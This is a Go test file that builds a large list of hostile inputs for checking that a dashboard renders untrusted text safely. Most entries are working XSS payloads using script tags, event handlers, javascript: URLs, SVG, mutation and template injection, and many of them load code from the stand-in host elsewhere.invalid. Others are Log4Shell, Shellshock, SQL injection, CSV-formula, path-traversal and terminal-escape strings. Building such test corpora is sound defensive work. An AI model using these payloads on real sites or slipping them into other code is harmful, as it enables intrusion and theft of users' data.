package dashboard_test

import (
	"fmt"
	"strings"
)

// hostile lists strings that would do something if they were taken for anything but
// text. Each that can run sets window.top.pwned, and each that can ask asks
// elsewhere.invalid.
func hostile() []string {
	var all []string
	seen := map[string]bool{}
	for _, family := range [][]string{
		scripts, handlers(), addresses(), drawings, mutations, breakouts, templates, styles, encoded,
		letters, keywords, literals, terminal, frames, clobbers, polyglots, long(), numbers(),
	} {
		for _, x := range family {
			x = strings.NewReplacer("§", fmt.Sprintf("top.pwned=%d", len(all)+1), "¤", "elsewhere.invalid").Replace(x)
			if !seen[x] {
				seen[x] = true
				all = append(all, x)
			}
		}
	}
	return all
}

var scripts = []string{
	`<script>§</script>`, `<SCRIPT>§</SCRIPT>`, `<ScRiPt>§</sCrIpT>`, `<script >§</script >`, "<script\n>§</script\n>", `<script/x>§</script>`,
	`<script>§//`, `<script>alert(§)</script>`, `<<script>§//<</script>`, `<scr<script>ipt>§</scr</script>ipt>`, `<script>§<!--`,
	`<script src=//¤/x.js></script>`, `<script src="https://¤/x.js" async></script>`, `<script type=module>§</script>`,
	`<script type=module src=//¤/m.js></script>`, `<script type=importmap>{"imports":{"./http.js":"//¤/x.js"}}</script>`,
	`<script src=data:text/javascript,§></script>`, `<script nonce="">§</script>`, `<script charset=utf-7>+ADw-script+AD4-§</script>`,
	`<script language=vbscript>top.pwned=1</script>`, `<script>//<![CDATA[` + "\n§//]]></script>", `<script defer src=/v1/tasks?callback=§></script>`,
	`</script><script>§</script>`, `</title><script>§</script>`, `</style><script>§</script>`, `</textarea><script>§</script>`,
	`--><script>§</script>`, `--!><script>§</script>`, `]]><script>§</script>`, `</noscript><script>§</script>`, "\x00<script>§</script>",
	`<noscript><script>§</script></noscript>`, `<xml id=x><x><b>&lt;script&gt;§&lt;/script&gt;</b></x></xml>`,
}

// handlers are elements by the events that would run them.
func handlers() []string {
	list := []string{
		`<img src=x onerror="§">`, `<img src=x onerror='§'>`, "<img src=x onerror=`§`>", `<IMG SRC=x ONERROR=§>`, `<img src=x:x onerror=§>`,
		`<img/src=x/onerror=§>`, "<img\tsrc=x\tonerror=§>", "<img\nsrc=x\nonerror=§>", "<img\x0csrc=x\x0conerror=§>", `<img src onerror=§`,
		`<img src=x onerror=§//`, `<img src=x onerror="alert(§)">`, `<img srcset=x onerror=§>`, `<img src=//¤/a.png onload=§>`, `<image src=x onerror=§>`,
		`<img """><img src=x onerror=§>">`, `<img src=x oneonerrorrror=§>`, `<img src=x onerror&#61;§>`, `<img src=x onerror=&#x74;op.pwned=1>`,
		`<img src=x onerror=eval(atob('dG9wLnB3bmVkPTE='))>`, `<img src=x onerror="[1].map(()=>§)">`, "<img src=x onerror=setTimeout`top.pwned\\x3d1`>",
		`<picture><source srcset=x><img onerror=§ src=x></picture>`, `<body onload=§>`, `<body onpageshow=§>`, `<body onhashchange=§>`, `<body onfocus=§>`,
		`<body onresize=§>`, `<body onmessage=§>`, `<body/onload=§>`, `<html onclick=§>`, `<frameset onload=§>`, `<svg onload=§>`, `<svg/onload=§>`, "<svg\nonload=§>",
		`<svg onload=§//`, `<iframe onload=§></iframe>`, `<object onerror=§ data=x></object>`, `<embed onload=§ src=x>`, `<input onfocus=§ autofocus>`,
		`<select onfocus=§ autofocus>`, `<textarea onfocus=§ autofocus>`, `<button onfocus=§ autofocus>x</button>`, `<a onfocus=§ autofocus tabindex=1>x</a>`,
		`<input onblur=§ autofocus><input autofocus>`, `<details open ontoggle=§>x</details>`, `<dialog open onclose=§ oncancel=§>x</dialog>`,
		`<marquee onstart=§>x</marquee>`, `<marquee loop=1 width=0 onfinish=§>x</marquee>`, `<link rel=stylesheet href=x onerror=§>`,
		`<style onload=§></style>`, `<style onload=§>*{color:red}</style>`, `<track onerror=§ src=x>`, `<video><source onerror=§></video>`,
		`<div style="animation:turn 1s" onanimationstart=§>x</div>`, `<div style="transition:all 1s" ontransitionend=§>x</div>`,
		`<div contenteditable autofocus onfocus=§>x</div>`, `<div onscrollend=§ style="height:1px;overflow:auto"><br><br></div>`,
		`<div popover onbeforetoggle=§ id=x>x</div><button popovertarget=x autofocus>`, `<form onformdata=§><button autofocus>x</button></form>`,
		`<isindex type=image src=1 onerror=§>`, `<keygen autofocus onfocus=§>`, `<bgsound src=x onerror=§>`, `<x onclick=§ tabindex=0 autofocus>x</x>`,
		`<custom-element onfocus=§ autofocus tabindex=0></custom-element>`, `<portal src=x onload=§></portal>`, `<menuitem oncontextmenu=§>x</menuitem>`,
	}
	for _, event := range []string{
		"abort", "canplay", "durationchange", "emptied", "ended", "error", "loadeddata", "loadedmetadata", "loadstart", "pause", "play", "playing",
		"progress", "stalled", "suspend", "timeupdate", "volumechange", "waiting",
	} {
		list = append(list, "<video autoplay src=x on"+event+"=§></video>", "<audio autoplay src=x on"+event+"=§></audio>")
	}
	for _, event := range []string{
		"auxclick", "beforecopy", "beforeinput", "click", "contextmenu", "copy", "cut", "dblclick", "drag", "drop", "focusin", "focusout", "gotpointercapture",
		"input", "invalid", "keydown", "keypress", "keyup", "mousedown", "mouseenter", "mousemove", "mouseover", "paste", "pointerdown", "pointerenter",
		"pointermove", "pointerrawupdate", "scroll", "search", "select", "selectionchange", "selectstart", "slotchange", "submit", "toggle", "touchstart",
		"wheel", "webkitanimationstart", "fullscreenchange", "securitypolicyviolation",
	} {
		list = append(list, "<b on"+event+"=§ tabindex=0 style=\"position:fixed;inset:0\">x</b>")
	}
	return list
}

// addresses are URLs that run, and the places that would follow them.
func addresses() []string {
	list := []string{
		`javascript:§`, `JaVaScRiPt:§`, " javascript:§", "\x01javascript:§", "java\tscript:§", "java\nscript:§", "java\rscript:§", "javascript\t:§", `javascript&colon;§`,
		`javascript&#58;§`, `&#106;avascript:§`, `javascript://%0a§`, "javascript://\u2028§", `javascript:/*--></title></style>*/§`, `javascript:void(§)`,
		`view-source:javascript:§`, `feed:javascript:§`, `vbscript:top.pwned=1`, `livescript:§`, `data:text/html,<script>§</script>`,
		`data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="§"/>`,
		`data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">§</x:script>`, `data:,§`, `blob:https://¤/x`, `filesystem:https://¤/x`,
		`//¤/x`, `\\¤\x`, `https://¤/x`, `http:\\¤/x`, `https:¤/x`, `/\¤/x`, `ftp://¤/x`, `ws://¤/x`, `mailto:x@¤?subject=§`, `about:srcdoc`, `#/task/<script>§</script>`,
		`#"><img src=x onerror=§>`, `?tab=<script>§</script>`, `../../ui/app.js`, `file:///etc/passwd`, `chrome://settings`, `intent://¤/#Intent;end`,
	}
	for _, place := range []string{
		`<a href="%s" id=main>x</a>`, `<iframe src="%s"></iframe>`, `<embed src="%s">`, `<object data="%s"></object>`, `<form action="%s"><button>x</button></form>`,
		`<button formaction="%s" form=f>x</button>`, `<area href="%s">`, `<base href="%s//">`, `<meta http-equiv=refresh content="0;url=%s">`, `<link rel=import href="%s">`,
		`<svg><a xlink:href="%s"><text x=20 y=20>x</text></a></svg>`, `<svg><use href="%s#x"/></svg>`, `<svg><image href="%s"/></svg>`, `<math href="%s">x</math>`,
		`<svg><animate attributeName=href values="%s"/></svg>`, `<frame src="%s">`, `<img lowsrc="%s" dynsrc="%s">`, `<table background="%s"></table>`,
		`<video poster="%s"></video>`, `<input type=image src="%s">`, `<body background="%s">`, `<applet code="%s"></applet>`, `<bgsound src="%s">`,
	} {
		for _, url := range []string{`javascript:§`, `data:text/html,<script>§</script>`, `//¤/x`} {
			list = append(list, strings.ReplaceAll(place, "%s", url))
		}
	}
	return list
}

// drawings are of SVG and MathML.
var drawings = []string{
	`<svg><script>§</script></svg>`, `<svg><script href=//¤/x.js /></svg>`, `<svg><script xlink:href=data:,§ /></svg>`, `<svg><script>&#116;op.pwned=1</script></svg>`,
	`<svg><animate onbegin=§ attributeName=x dur=1s>`, `<svg><set onbegin=§ attributename=x>`, `<svg><animatetransform onbegin=§>`, `<svg><animate onend=§ dur=1ms attributeName=x>`,
	`<svg><animate onrepeat=§ dur=1ms repeatCount=2 attributeName=x>`, `<svg><a><animate attributeName=href values=javascript:§ /><text x=20 y=20>x</text></a></svg>`,
	`<svg><foreignObject><img src=x onerror=§></foreignObject></svg>`, `<svg><foreignObject><iframe srcdoc="<script>§</script>"></iframe></foreignObject></svg>`,
	`<svg><desc><img src=x onerror=§></desc></svg>`, `<svg><title><img src=x onerror=§></title></svg>`, `<svg><style><img src=x onerror=§></style></svg>`,
	`<svg><style>@import "//¤/x.css"</style></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror='§'/></svg>#x"/></svg>`,
	`<svg><image href=x onerror=§ /></svg>`, `<svg><filter><feImage href=//¤/x /></filter></svg>`, `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>§</x:script></svg>`,
	`<svg><discard onbegin=§ />`, `<svg><handler type=text/javascript>§</handler></svg>`, `<?xml version="1.0"?><svg onload="§" xmlns="http://www.w3.org/2000/svg"/>`,
	`<math><mtext><img src=x onerror=§></mtext></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>`,
	`<math><maction actiontype=statusline#//¤ xlink:href=javascript:§>x</maction></math>`, `<math><mi xlink:href=javascript:§>x</mi></math>`,
	`<math><mglyph><svg><mtext><style><path id="</style><img onerror=§ src>">`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><svg>&y;</svg>`,
}

// mutations become something else when they are parsed a second time.
var mutations = []string{
	`<noscript><p title="</noscript><img src=x onerror=§>">`, `<svg></p><style><a id="</style><img src=1 onerror=§>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>`, `<svg><p><style><g title="</style><img src onerror=§>">`, `<listing>&lt;img src=x onerror=§&gt;</listing>`,
	`<xmp><p title="</xmp><svg/onload=§>">`, `<noembed><img title="</noembed><img src onerror=§>"></noembed>`, `<noframes><p id="</noframes><img src onerror=§>">`, `<plaintext><img src=x onerror=§>`,
	`<title><p id="</title><img src onerror=§>">`, `<textarea><p id="</textarea><img src onerror=§>">`, `<iframe><p id="</iframe><img src onerror=§>">`, `<style><p id="</style><img src onerror=§>">`,
	"<img alt=\"``onerror=§ src=x\">", "<div style=\"`onmouseover=§`\">", `<a title="&lt;img src=x onerror=§&gt;">`, `<p title="&quot;&gt;&lt;script&gt;§&lt;/script&gt;">`,
	`<template><img src=x onerror=§></template>`, `<template shadowrootmode=open><img src=x onerror=§></template>`, `<div><template shadowrootmode=closed><script>§</script></template></div>`,
	`<table><td><p><a><table><svg onload=§>`, `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=§>">`, `<b><a><b></a></a><img src=x onerror=§>`,
	`<option><style></option></select><b><img src=x onerror=§></style></option>`, `<a/href/onmouseover/="§">`, `<![CDATA[<img src=x onerror=§>]]>`, `<!--<img src="--><img src=x onerror=§//">`, `<!--[if gte IE 4]><script>§</script><![endif]-->`,
	`<?<img src=x onerror=§>?>`, `<!x<img src=x onerror=§>>`, `</<img src=x onerror=§>>`, `<%<img src=x onerror=§>%>`,
}

// breakouts leave the attribute or the literal they were put into.
var breakouts = []string{
	`"`, `'`, "`", `<`, `>`, `<>`, `</`, `<!`, `<!--`, `<?`, `&`, `&&`, `\`, `\\"`, `"'`, `"><svg onload=§>`, `'><svg onload=§>`, "`><svg onload=§>", `"/><script>§</script>`, `" onfocus=§ autofocus x="`,
	`' onfocus=§ autofocus x='`, ` onfocus=§ autofocus`, `" style="position:fixed;inset:0" onclick="§`, `";§;//`, `';§;//`, `\";§;//`, `\';§;//`, "\n§\n", "\u2028§\u2029", `'-(§)-'`, `"+(§)+"`, "${§}", "`+(§)+`",
	`*/§/*`, `//` + "\n§", `}§;{`, `)};§;({`, `]});§;([{`, `<img src="`, `<img src='x`, `<a href="`, `<img src=x onerror="§`, `<div class='`, `<input value="`, `data-state="failed" onclick="§"`,
}

var templates = []string{
	`{{constructor.constructor('§')()}}`, `{{$on.constructor('§')()}}`, `{{7*7}}`, `{{{this}}}`, `{{#with "s" as |x|}}{{x}}{{/with}}`, `${{§}}`, `#{§}`, `<%= §%>`, `<% §%>`, `<?php echo 1 ?>`, `[[${§}]]`,
	`*{§}`, `@{§}`, `{%raw%}§{%endraw%}`, `{{=<% %>=}}`, `<div ng-app ng-csp>{{$eval.constructor('§')()}}</div>`, `<x ng-init="constructor.constructor('§')()">`, `<div v-html="'<img src=x onerror=§>'"></div>`,
	`<div x-data x-init="§"></div>`, `<div hx-on:htmx:load="§"></div>`, `<div data-bind="html:§"></div>`, `<x is="customized" onfocus=§>`, `{{__proto__.pwned}}`, `%s%n%x%d`, `%{§}`, `!{<img src=x onerror=§>}`,
}

var styles = []string{
	`<style>*{display:none}</style>`, `<style>@import url(//¤/x.css);</style>`, `<style>*{background:url(//¤/x)}</style>`, `<link rel=stylesheet href=//¤/x.css>`, `<div style="background:url(javascript:§)">x</div>`,
	`<div style="width:expression(§)">x</div>`, `<div style="behavior:url(//¤/x.htc)">x</div>`, `<div style="-moz-binding:url(//¤/x.xml#x)">x</div>`, `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
	`};*{display:none}`, `";}body{display:none}a{"`, `red;background:url(//¤/x)`, `url(javascript:§)`, `100%;width:expression(§)`, `</style><style>body{visibility:hidden}`, `@charset "utf-7";`, `/*`, `*/`, `content:"\3c script>"`,
	`<style>input[value^="t"]{background:url(//¤/t)}</style>`, `<svg style="--x:url(//¤/x)">`, `var(--card)`, `attr(onerror)`,
}

var encoded = []string{
	`&lt;script&gt;§&lt;/script&gt;`, `&#60;script&#62;§&#60;/script&#62;`, `&#x3c;img src=x onerror=§&#x3e;`, `&#0000060img src=x onerror=§>`, `&LT;script&GT;§`, `&lt;img src=x onerror=&quot;§&quot;&gt;`, `&amp;lt;script&amp;gt;§`,
	`%3Cscript%3E§%3C/script%3E`, `%253Cscript%253E§`, `\u003cscript\u003e§\u003c/script\u003e`, `\x3cscript\x3e§`, `\74script\76§`, `\u{3c}script>§`, `+ADw-script+AD4-§+ADw-/script+AD4-`, `+/v8-+ADw-script+AD4-§`,
	"\ufeff<script>§</script>", "\u00bcscript\u00be§\u00bc/script\u00be", "\uff1cscript\uff1e§\uff1c/script\uff1e", "\ufe64script\ufe65§", "\u2039script\u203a§", "<\u017fcript>§</\u017fcript>", "<\u0131mg src=x onerror=§>",
	"\ufffdscript\ufffd§", "&nbsp;&shy;&zwj;&lrm;&rlm;", "&NotEqualTilde;&fjlig;", "\x1b$B<script>§</script>\x1b(B", `PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==`, `&#xd800;&#x110000;&#0;`,
}

// letters trick the eye and the layout.
var letters = []string{
	"\u202egnp.exe\u202c", "\u202dabc\u202e<script>§</script>", "\u2066\u2067\u2068x\u2069", "\u200b\u200c\u200d\u2060\ufeff", "a\u200bd\u200bm\u200bi\u200bn", "\u061c\u200e\u200f", "\u0000", "\u0001\u0002\u0007\b\f\v\u007f", "\u0085\u00a0",
	"\u2028\u2029", "\ufffe\uffff\ufdd0", "\U000e0001\U000e0041", "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067\U000e007f", "\U0001d4ea\U0001d4fb", "\u0438\u0430\u0440\u0430l\u0430", "\u0645\u0631\u062d\u0628\u0627 <b>\u05e9\u05dc\u05d5\u05dd</b>",
	"e" + strings.Repeat("\u0301", 500), strings.Repeat("\ufdfd", 50), strings.Repeat("\u0e47", 200), "\u034f\u180e\u3164\uffa0", "\ufff9x\ufffay\ufffb", "\u0c1c\u0c4d\u0c1e\u200c\u0c3e", " \t leading and trailing \t ", "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<script>§</script>",
}

// keywords are names that objects have by themselves.
var keywords = []string{
	"__proto__", "constructor", "prototype", "tostring", "toString", "valueOf", "hasOwnProperty", "isPrototypeOf", "__defineGetter__", "__lookupGetter__", "toJSON", "then", "length", "name", "rawJSON", "undefined", "null", "NaN", "Infinity", "true", "false", "0", "-1",
	"on", "onclick", "value", "style", "href", "srcdoc", "innerHTML", "textContent", "__proto__.pwned", "constructor.prototype.pwned", "window", "document", "location", "top", "self", "eval", "alert", "Symbol.iterator", "@@iterator", "get", "set", "$", "_", ".", "..", "-",
}

var literals = []string{
	`{"__proto__":{"pwned":1}}`, `{"constructor":{"prototype":{"pwned":1}}}`, `"},"pwned":1,"x":{"`, `","state":"succeeded","x":"`, `\u0022,\u0022pwned\u0022:1`, `null}}{{`, `]}]}]}`, `"}</script><script>§</script>{"`, `{"toString":"x","valueOf":"y"}`, `{"then":"x"}`,
	`{"toJSON":"x"}`, `{"length":4294967295}`, `/**/`, `0x1f`, `1_000`, `'single'`, `{a:1}`, `[,]`, `new Date(0)`, `data: x` + "\n\nevent: state\ndata: {}\n\n", `{"jsonrpc":"2.0","method":"goodbye","params":{"delay":"1ns"}}`, `{"jsonrpc":"2.0","method":"end"}`,
}

// terminal does something to a terminal.
var terminal = []string{
	"\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;javascript:§\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;cHduZWQ=\x07", "\x1b[6n", "\x1b[?1049h", "\x1bc", "\x1bP$q\"p\x1b\\", "\x1b_Gx\x1b\\", "\x9b31mred", "\x1b[<script>§</script>", "\x1b]0;<img src=x onerror=§>", "\x1b[" + strings.Repeat("1;", 5000) + "m",
	"a\rb\rc", "back\b\b\b\bspace", "\x0e\x0f", "\x1b[8mhidden\x1b[28m",
}

var frames = []string{
	`<iframe srcdoc="<script>parent.pwned=1;§</script>">`, `<iframe srcdoc="&lt;script&gt;§&lt;/script&gt;"></iframe>`, `<iframe src=/ui/app.js></iframe>`, `<iframe src=//¤></iframe>`, `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>§</script>"></iframe>`,
	`<fencedframe src=//¤></fencedframe>`, `<object type=text/html data="data:text/html,<script>§</script>"></object>`, `<object type=application/x-shockwave-flash data=//¤/x.swf></object>`, `<embed type=text/html src=//¤>`, `<frameset><frame src=javascript:§></frameset>`,
	`<webview src=//¤ nodeintegration></webview>`, `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta http-equiv=refresh content=0;url=//¤>`, `<meta http-equiv=Set-Cookie content=a=b>`, `<meta charset=utf-7>`, `<meta name=referrer content=unsafe-url>`,
	`<base href=//¤/>`, `<base target=_blank href=//¤>`, `<link rel=prefetch href=//¤/x>`, `<link rel=preload as=script href=//¤/x>`, `<link rel=dns-prefetch href=//¤>`, `<link rel=manifest href=//¤/x>`, `<link rel=modulepreload href=//¤/x.js>`, `<a href=//¤ ping=//¤/ping autofocus>x</a>`,
}

// clobbers take the names by which the page knows its own elements.
var clobbers = []string{
	`<a id=list>x</a>`, `<form id=detail><input name=hidden></form>`, `<img name=body src=x>`, `<form name=getElementById></form>`, `<a id=location href=javascript:§>x</a>`, `<input name=attributes form=x>`, `<form id=submit><input id=submit name=submit></form>`, `<iframe name=top src=//¤></iframe>`,
	`<object name=defaultView></object>`, `<a id=badge data-status=live>x</a>`, `<div id=toasts role=alert>signed out: <a href=//¤>sign in</a></div>`, `<dialog open><form action=//¤><input type=password></form></dialog>`, `<main id=main hidden></main>`, `<input id=filter autofocus>`,
}

var polyglots = []string{
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=§ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=§//>\\x3e",
	`'">><marquee><img src=x onerror=§></marquee>"></plaintext\></|\><plaintext/onmouseover=§><script>§</script>@gmail.com<isindex formaction=javascript:§ type=submit>'-->"></script>`,
	`" onclick=§//<button ' onclick=§//> */ §//`, `';§//';§//";§//";§//--></SCRIPT>">'><SCRIPT>§</SCRIPT>`, `<svg/onload=§>"'--><style>*{}</style></title></textarea></script>`, `'"(){}<x>:/x='; DROP TABLE tasks; -- <img src=x onerror=§>`,
	`${jndi:ldap://¤/x}`, `() { :; }; echo x`, `../../../../etc/passwd%00<script>§</script>`, `=cmd|'/c calc'!A1`, `@SUM(1)<img src=x onerror=§>`, `|| 1=1 <svg onload=§>`,
}

func long() []string {
	return []string{
		strings.Repeat("A", 30_000), strings.Repeat("<", 10_000), strings.Repeat("<b>", 10_000), strings.Repeat("x ", 10_000), strings.Repeat("\n", 5_000) + "x", strings.Repeat("\r", 10_000) + "x", strings.Repeat("=", 10_000) + "x",
		strings.Repeat(`"`, 10_000), strings.Repeat(`\`, 10_000), strings.Repeat("\U0001f525", 10_000), strings.Repeat("\u202e", 5_000) + "x", strings.Repeat("&amp;", 10_000), strings.Repeat("{{", 10_000), strings.Repeat("\x1b]", 10_000),
		strings.Repeat("a", 10_000) + "<img src=x onerror=§>", strings.Repeat("\t", 5_000) + "<script>§</script>",
	}
}

func numbers() []string {
	return []string{
		"9007199254740993", "-0", "-0.0", "1e999999", "-1e999999", "1e-999999", "0.1000000000000000055511151231257827", "1" + strings.Repeat("0", 400), "0." + strings.Repeat("0", 400) + "1", strings.Repeat("9", 10_000),
		"1." + strings.Repeat("3", 10_000), "18446744073709551616", "4.9e-324", "1.7976931348623159e308", "1E+2", "123456789012345678901234567890.1234567890123456789",
	}
}
